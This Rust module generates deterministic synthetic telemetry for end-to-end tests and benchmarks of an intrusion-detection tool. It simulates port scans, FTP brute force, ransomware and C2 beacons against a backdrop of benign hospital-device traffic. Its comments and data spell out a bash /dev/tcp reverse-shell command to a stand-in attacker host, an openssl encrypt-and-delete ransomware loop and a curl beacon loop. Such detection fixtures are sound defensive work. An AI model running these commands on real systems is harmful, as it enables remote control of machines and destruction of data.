//! Event sequences as the sensors report real activity, for end-to-end tests, benchmarks and
//! `heir bench`: what nmap, hydra, a bash reverse shell, an `openssl enc` ransomware loop and
//! a jittered curl beacon look like, and a day of ordinary hospital-device life.
//!
//! Sequences are deterministic (seeded) so figures and tests are repeatable.

use std::net::IpAddr;
use std::sync::Arc;

use heir_model::event::{Ancestor, LoginOutcome, Observation, ProcessInfo, TcpFlags, Transport};
use heir_model::{Event, EventKind, NetAddr, Process, Timestamp};

/// 2026-01-01T00:00:00Z, where every scenario starts unless told otherwise.
pub const T0: u64 = 1_767_225_600_000_000_000;

/// Deterministic xorshift generator.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Self(seed | 1)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
}

fn ip(s: &str) -> IpAddr {
    s.parse().expect("scenario addresses are valid")
}

fn ts(ms: u64) -> Timestamp {
    Timestamp::from_nanos(T0 + ms * 1_000_000)
}

/// A process with its exe and parent.
pub fn process(pid: u32, ppid: u32, uid: u32, exe: &str, parent: &str) -> Process {
    Process {
        pid,
        tid: pid,
        ppid,
        uid,
        euid: uid,
        gid: uid,
        comm: exe
            .rsplit('/')
            .next()
            .unwrap_or(exe)
            .chars()
            .take(15)
            .collect(),
        cgroup: 0,
        info: Some(Arc::new(ProcessInfo {
            exe: Some(exe.to_owned()),
            args: Vec::new(),
            started: None,
            lineage: vec![
                Ancestor {
                    pid: ppid,
                    exe: parent.to_owned(),
                },
                Ancestor {
                    pid: 1,
                    exe: "/sbin/init".into(),
                },
            ],
        })),
    }
}

fn net(ms: u64, kind: EventKind) -> Event {
    Event {
        ts: ts(ms),
        process: Process::default(),
        kind,
    }
}

/// A flow record.
#[allow(clippy::too_many_arguments)]
pub fn flow(
    ms: u64,
    src: &str,
    sport: u16,
    dst: &str,
    dport: u16,
    flags_out: u8,
    flags_in: u8,
    out: (u64, u64),
    inb: (u64, u64),
    established: bool,
) -> Event {
    net(
        ms,
        EventKind::Flow {
            src: ip(src),
            src_port: sport,
            dst: ip(dst),
            dst_port: dport,
            transport: Transport::Tcp,
            packets_out: out.0,
            bytes_out: out.1,
            packets_in: inb.0,
            bytes_in: inb.1,
            flags_out: TcpFlags(flags_out),
            flags_in: TcpFlags(flags_in),
            syn_unanswered: 0,
            established,
            icmp_unreachable: false,
            first_seen: ts(ms.saturating_sub(200)),
            last_seen: ts(ms),
            link: None,
        },
    )
}

const S: u8 = TcpFlags::SYN;
const A: u8 = TcpFlags::ACK;
const R: u8 = TcpFlags::RST;
const F: u8 = TcpFlags::FIN;
const P: u8 = TcpFlags::PSH;

/// A completed TCP session with data.
pub fn session(
    ms: u64,
    src: &str,
    sport: u16,
    dst: &str,
    dport: u16,
    bytes_out: u64,
    bytes_in: u64,
) -> Event {
    flow(
        ms,
        src,
        sport,
        dst,
        dport,
        S | A | P | F,
        S | A | P | F,
        (4 + bytes_out / 1400, bytes_out),
        (4 + bytes_in / 1400, bytes_in),
        true,
    )
}

fn proto(ms: u64, src: &str, sport: u16, dst: &str, dport: u16, observation: Observation) -> Event {
    net(
        ms,
        EventKind::Protocol {
            src: ip(src),
            src_port: sport,
            dst: ip(dst),
            dst_port: dport,
            observation,
        },
    )
}

/// `nmap -sS --top-ports 1000 target`: one flow record per probed port.
pub fn nmap_syn_scan(
    start_ms: u64,
    scanner: &str,
    target: &str,
    ports: u16,
    open: &[u16],
) -> Vec<Event> {
    (0..ports)
        .map(|i| {
            let port = 1 + i;
            let is_open = open.contains(&port);
            let (fo, fi) = if is_open { (S | R, S | A) } else { (S, R | A) };
            flow(
                start_ms + u64::from(i) / 4,
                scanner,
                60_123,
                target,
                port,
                fo,
                fi,
                (1 + u64::from(is_open), 44),
                (1, 44),
                false,
            )
        })
        .collect()
}

/// `hydra -l admin -P words.txt ftp://target`: protocol observations then a success.
pub fn hydra_ftp(start_ms: u64, attacker: &str, target: &str, attempts: u32) -> Vec<Event> {
    let mut v: Vec<Event> = (0..attempts)
        .map(|i| {
            proto(
                start_ms + u64::from(i) * 120,
                attacker,
                40_000 + (i % 16) as u16,
                target,
                21,
                Observation::Ftp {
                    user: Some("admin".into()),
                    cleartext_credentials: true,
                    outcome: Some(LoginOutcome::Failure),
                },
            )
        })
        .collect();
    v.push(proto(
        start_ms + u64::from(attempts) * 120,
        attacker,
        40_100,
        target,
        21,
        Observation::Ftp {
            user: Some("admin".into()),
            cleartext_credentials: true,
            outcome: Some(LoginOutcome::Success),
        },
    ));
    v
}

/// `bash -c 'bash -i >& /dev/tcp/ATTACKER/4444 0>&1'` spawned by a web server.
pub fn bash_reverse_shell(start_ms: u64, pid: u32, attacker: &str) -> Vec<Event> {
    let outer = process(pid, pid - 1, 33, "/usr/bin/bash", "/usr/sbin/apache2");
    let inner = process(pid + 1, pid, 33, "/usr/bin/bash", "/usr/bin/bash");
    let cmd = format!("bash -i >& /dev/tcp/{attacker}/4444 0>&1");
    vec![
        Event {
            ts: ts(start_ms),
            process: outer.clone(),
            kind: EventKind::Exec {
                filename: "/usr/bin/bash".into(),
                argv: vec!["bash".into(), "-c".into(), cmd],
                argv_truncated: false,
                ret: 0,
            },
        },
        Event {
            ts: ts(start_ms + 1),
            process: outer,
            kind: EventKind::Fork { child_pid: pid + 1 },
        },
        Event {
            ts: ts(start_ms + 2),
            process: inner.clone(),
            kind: EventKind::Connect {
                addr: NetAddr::Inet {
                    ip: ip(attacker),
                    port: 4444,
                },
                ret: 0,
            },
        },
        Event {
            ts: ts(start_ms + 3),
            process: inner,
            kind: EventKind::Exec {
                filename: "/usr/bin/bash".into(),
                argv: vec!["bash".into(), "-i".into()],
                argv_truncated: false,
                ret: 0,
            },
        },
    ]
}

/// `for f in dir/*; do openssl enc … -in $f -out $f.enc; mv $f.enc $f.locked; rm $f; done`.
pub fn openssl_ransomware(start_ms: u64, shell_pid: u32, files: u32) -> Vec<Event> {
    let mut v = Vec::new();
    for i in 0..files {
        let f = format!("/srv/share/scan-{i:04}.dcm");
        let t = start_ms + u64::from(i) * 50;
        let pid = shell_pid + 1 + i * 3;
        let openssl = process(pid, shell_pid, 1000, "/usr/bin/openssl", "/usr/bin/bash");
        let mv = process(pid + 1, shell_pid, 1000, "/usr/bin/mv", "/usr/bin/bash");
        let rm = process(pid + 2, shell_pid, 1000, "/usr/bin/rm", "/usr/bin/bash");
        let argv = [
            "openssl",
            "enc",
            "-aes-256-cbc",
            "-pbkdf2",
            "-in",
            &f,
            "-out",
            &format!("{f}.enc"),
            "-pass",
            "pass:x",
        ];
        v.push(Event {
            ts: ts(t),
            process: openssl.clone(),
            kind: EventKind::Exec {
                filename: "/usr/bin/openssl".into(),
                argv: argv.iter().map(|s| s.to_string()).collect(),
                argv_truncated: false,
                ret: 0,
            },
        });
        v.push(Event {
            ts: ts(t + 1),
            process: openssl.clone(),
            kind: EventKind::Open {
                path: f.clone(),
                flags: 0,
                ret: 3,
            },
        });
        v.push(Event {
            ts: ts(t + 2),
            process: openssl.clone(),
            kind: EventKind::Open {
                path: format!("{f}.enc"),
                flags: 0o1101,
                ret: 4,
            },
        });
        v.push(Event {
            ts: ts(t + 3),
            process: openssl,
            kind: EventKind::Exit {
                code: 0,
                signal: None,
            },
        });
        v.push(Event {
            ts: ts(t + 4),
            process: mv,
            kind: EventKind::Rename {
                from: format!("{f}.enc"),
                to: format!("{f}.locked"),
                ret: 0,
            },
        });
        v.push(Event {
            ts: ts(t + 5),
            process: rm,
            kind: EventKind::Unlink { path: f, ret: 0 },
        });
    }
    v
}

/// `while :; do curl -s https://C2/t; sleep $((period ± jitter)); done`, some beats missed.
pub fn curl_beacon(
    start_ms: u64,
    device: &str,
    c2: &str,
    period_ms: u64,
    jitter: f64,
    beats: u32,
    rng: &mut Rng,
) -> Vec<Event> {
    let mut t = start_ms;
    let mut v = Vec::new();
    for i in 0..beats {
        t += (period_ms as f64 * (1.0 + (rng.unit() * 2.0 - 1.0) * jitter)) as u64;
        if i % 7 == 6 {
            continue;
        }
        v.push(session(
            t,
            device,
            40_000 + (i % 20_000) as u16,
            c2,
            443,
            700 + rng.below(80),
            1_100 + rng.below(100),
        ));
    }
    v
}

/// Ordinary life: modalities storing studies over DICOM-TLS, HTTPS with TLS 1.3, admins
/// running routine commands, an account audit, a package install, fleet telemetry.
pub fn benign_mix(start_ms: u64, events: usize, rng: &mut Rng) -> Vec<Event> {
    let admin = process(2000, 1999, 1000, "/usr/bin/bash", "/usr/sbin/sshd");
    let dpkg = process(2100, 2099, 0, "/usr/bin/dpkg", "/usr/bin/apt-get");
    let pwck = process(2200, 2199, 0, "/usr/sbin/pwck", "/usr/sbin/cron");
    let mut v = Vec::with_capacity(events);
    let mut t = start_ms;
    let mut i = 0u64;
    while v.len() < events {
        t += 1 + rng.below(3);
        i += 1;
        let modality = format!("10.9.2.{}", 1 + rng.below(40));
        let ev = match rng.below(12) {
            0 => proto(
                t,
                &modality,
                41_000,
                "10.9.0.5",
                2762,
                Observation::DicomTls {
                    versions: vec![0x0303],
                    cipher_suites: vec![0x1301],
                    ja4: String::new(),
                },
            ),
            1 => session(
                t,
                &modality,
                41_000 + (i % 1000) as u16,
                "10.9.0.5",
                2762,
                200_000 + rng.below(2_000_000),
                4_000,
            ),
            2 => proto(
                t,
                "10.9.0.30",
                42_000,
                "10.9.0.42",
                443,
                Observation::TlsClientHello {
                    versions: vec![0x0304, 0x0303],
                    cipher_suites: vec![0x1301, 0x1302, 0x1303],
                    sni: Some("pacs.hospital.example".into()),
                    alpn: vec!["h2".into()],
                    ja4: "t13d0312h2_55b375c5d22e_06cda9e17597".into(),
                },
            ),
            3 => proto(
                t,
                "10.9.0.42",
                443,
                "10.9.0.30",
                42_000,
                Observation::TlsServerHello {
                    version: 0x0304,
                    cipher_suite: 0x1301,
                },
            ),
            4 => {
                let cmd =
                    ["ls", "df", "systemctl", "journalctl", "ps", "ip"][rng.below(6) as usize];
                let p = process(
                    3000 + (i % 5000) as u32,
                    2000,
                    1000,
                    &format!("/usr/bin/{cmd}"),
                    "/usr/bin/bash",
                );
                Event {
                    ts: ts(t),
                    process: p,
                    kind: EventKind::Exec {
                        filename: format!("/usr/bin/{cmd}"),
                        argv: vec![cmd.into()],
                        argv_truncated: false,
                        ret: 0,
                    },
                }
            }
            5 => Event {
                ts: ts(t),
                process: admin.clone(),
                kind: EventKind::Open {
                    path: "/etc/hosts".into(),
                    flags: 0,
                    ret: 3,
                },
            },
            6 => {
                let f = format!("/usr/share/pkg/f{}.so", i % 3000);
                if i.is_multiple_of(2) {
                    Event {
                        ts: ts(t),
                        process: dpkg.clone(),
                        kind: EventKind::Open {
                            path: format!("{f}.dpkg-new"),
                            flags: 0o1101,
                            ret: 5,
                        },
                    }
                } else {
                    Event {
                        ts: ts(t),
                        process: dpkg.clone(),
                        kind: EventKind::Rename {
                            from: format!("{f}.dpkg-new"),
                            to: f,
                            ret: 0,
                        },
                    }
                }
            }
            7 => Event {
                ts: ts(t),
                process: pwck.clone(),
                kind: EventKind::Open {
                    path: "/etc/shadow".into(),
                    flags: 0,
                    ret: 3,
                },
            },
            8 => {
                // Fleet telemetry: every monitor reports to the vendor service.
                let dev = format!("10.9.3.{}", 1 + rng.below(20));
                session(
                    t,
                    &dev,
                    43_000,
                    "198.51.100.200",
                    443,
                    900 + rng.below(50),
                    300,
                )
            }
            9 => Event {
                ts: ts(t),
                process: process(2300, 1, 0, "/usr/sbin/sshd", "/sbin/init"),
                kind: EventKind::Accept {
                    local: Some(NetAddr::Inet {
                        ip: ip("10.9.0.9"),
                        port: 22,
                    }),
                    peer: Some(NetAddr::Inet {
                        ip: ip("10.9.0.2"),
                        port: 50_000,
                    }),
                    ret: 4,
                },
            },
            10 => session(
                t,
                "10.9.0.2",
                50_000 + (i % 100) as u16,
                "10.9.0.9",
                22,
                60_000 + rng.below(100_000),
                2_000_000,
            ),
            _ => Event {
                ts: ts(t),
                process: admin.clone(),
                kind: EventKind::Exit {
                    code: 0,
                    signal: None,
                },
            },
        };
        v.push(ev);
    }
    v
}
